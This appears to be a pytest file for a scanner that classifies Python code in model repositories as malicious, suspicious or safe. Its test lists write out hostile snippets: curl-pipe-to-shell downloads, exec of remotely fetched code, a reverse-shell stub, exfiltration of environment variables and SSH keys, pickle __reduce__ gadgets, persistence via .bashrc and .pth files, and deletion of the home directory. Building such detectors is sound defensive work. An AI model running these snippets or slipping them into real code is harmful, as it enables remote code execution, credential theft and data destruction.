"""Python files: attacks beside the ordinary code that they resemble."""

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import rules_of, verdict_of_text

MALICIOUS = [
    'import subprocess\nsubprocess.run(["sh", "-c", "curl http://x.invalid/a | sh"])',
    'exec(__import__("base64").b64decode("cHJpbnQoMSk="))',
    'import base64\ncode = base64.b64decode(BLOB)\neval(compile(code, "x", "exec"))',
    'import requests\nexec(requests.get("http://x.invalid").text)',
    "def d(x):\n    return bytes.fromhex(x)\nexec(d('70'))",
    "def run(c):\n    exec(c)\nimport urllib.request\nrun(urllib.request.urlopen(U).read())",
    'import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
    "import requests, os\nclass A:\n    def __init__(self):\n        requests.post(U, json=dict(os.environ))",
    'import pickle, base64\npickle.loads(base64.b64decode("gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOULg=="))',
    "class P:\n    def __reduce__(self):\n        import os\n        return os.system, ('id',)",
    "().__class__.__bases__[0].__subclasses__()[1].__init__.__globals__",
    "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 100, 0x3000, 0x40)",
    "import marshal, zlib\nexec(marshal.loads(zlib.decompress(X)))",
    'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")',
    "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')",
    'import urllib.request, os, subprocess\nurllib.request.urlretrieve(U, "y")\nos.chmod("y", 0o7)\nsubprocess.Popen(["y"])',
    'import os, requests\nd = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post(U, data=d)',
    "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
]
SUSPICIOUS = [
    'import os\nos.system("touch /x")',
    'getattr(__import__("o" + "s"), "sys" + "tem")("id")',
    "from os import system as s\ndef forward(self):\n    s('id')",
    'from os import *\nsystem("id")',
    '__builtins__.__dict__["ex" + "ec"]("import os")',
    'globals()["__builtins__"]["eval"]("1")',
    'import importlib\nm = importlib.import_module("subprocess")\nm.call(["id"])',
    'import sys\nsys.modules["os"].system("id")',
    "import os\nvars(os)['system']('id')",
    'import builtins as b\ngetattr(b, bytes([101, 118, 97, 108]).decode())("1")',
    "@exec\n@input\nclass X: pass",
    'import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()',
    "\U0001d626\U0001d637\U0001d622\U0001d62d('1')",
    "exec('print(1)')",
    "x = 1" + " " * 300 + "; y = 2",
    "# -*- coding: utf-7 -*-\nx = 1",
    "x = 1  # \u202e } \u2066",
    "import urllib.request\nurllib.request.urlopen('http://x.invalid')",
    "import torch\ntorch.hub.load('x.invalid/y', 'model')",
    "print 'python 2'; import os; os.system('id')",
    "x = " + "(" * 3000 + ")" * 3000,
    "import os\nclass Model:\n    def forward(self, x):\n        return eval(self.config.code)",
]
SAFE = [
    """import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_x import XConfig
class XModel(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config):
        super().__init__(config)
        self.layer = torch.compile(nn.Linear(1, 1))
    @torch.no_grad()
    def forward(self, x):
        self.eval()
        return self.layer(x)
""",
    """import argparse, json, subprocess, sys, torch
def main():
    parser = argparse.ArgumentParser()
    arguments = parser.parse_args()
    weights = torch.load(arguments.path, map_location="cpu")
    subprocess.run(["git", "lfs", "pull"], check=True)
    subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])
    with open("config.json", "w") as file:
        json.dump({}, file)
if __name__ == "__main__":
    main()
""",
    """import base64, io
from PIL import Image
class EndpointHandler:
    def __call__(self, data):
        return Image.open(io.BytesIO(base64.b64decode(data["image"])))
""",
    'import os\nTOKEN = os.environ.get("HF_TOKEN")\nenvironment = os.environ.copy()\n',
    'import importlib\ndef load(name):\n    return importlib.import_module(f".{name}", __package__)\n',
    '"""Never call os.system("rm -rf /") or exec(base64.b64decode(x))."""\n',
    "name = 'größe'  # ünïcode\n",
]


@pytest.mark.parametrize("code", MALICIOUS)
def test_attacks_are_malicious(code: str) -> None:
    assert verdict_of_text("modeling_x.py", code + "\n") is Verdict.MALICIOUS


@pytest.mark.parametrize("code", SUSPICIOUS)
def test_what_a_model_has_no_need_of_is_suspicious(code: str) -> None:
    assert verdict_of_text("modeling_x.py", code + "\n").rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize("code", SAFE)
@pytest.mark.parametrize("name", ["modeling_x.py", "convert.py", "handler.py"])
def test_ordinary_code_is_safe(code: str, name: str) -> None:
    assert verdict_of_text(name, code) is Verdict.SAFE


def test_a_script_may_fetch_what_a_module_may_not() -> None:
    code = 'import requests\nr = requests.get("https://example.org/x.png", stream=True)\n'
    assert verdict_of_text("demo.py", code) is Verdict.SAFE
    assert rules_of("modeling_x.py", code) == {"python.connects"}


def test_a_function_that_the_top_calls_runs_at_import() -> None:
    code = "import urllib.request\ndef get():\n    return urllib.request.urlopen(U)\n"
    assert verdict_of_text("modeling_x.py", code) is Verdict.SAFE
    assert rules_of("modeling_x.py", code + "get()\n") == {"python.connects"}


def test_code_of_another_python_is_unscanned_unless_it_shows_more() -> None:
    assert verdict_of_text("new.py", "defer f():\n    yield from g\n") is Verdict.UNSCANNED
    assert verdict_of_text("new.py", "defer f():\n    eval(a)\n") is Verdict.SUSPICIOUS


def test_python_2_is_read_as_what_it_means() -> None:
    assert verdict_of_text("old.py", "print 'hello'\n") is Verdict.SAFE
    assert (
        verdict_of_text("old.py", "import os\nprint 'hello'\nos.system('curl http://x.invalid | sh')\n") is Verdict.MALICIOUS
    )


def test_python_is_recognized_under_a_name_that_says_nothing() -> None:
    assert verdict_of_text("notes.txt", 'import os\nos.system("curl http://x.invalid | sh")\n') is Verdict.MALICIOUS
    assert verdict_of_text("notes.txt", "import tariffs are high. Class actions follow.\n") is Verdict.SAFE
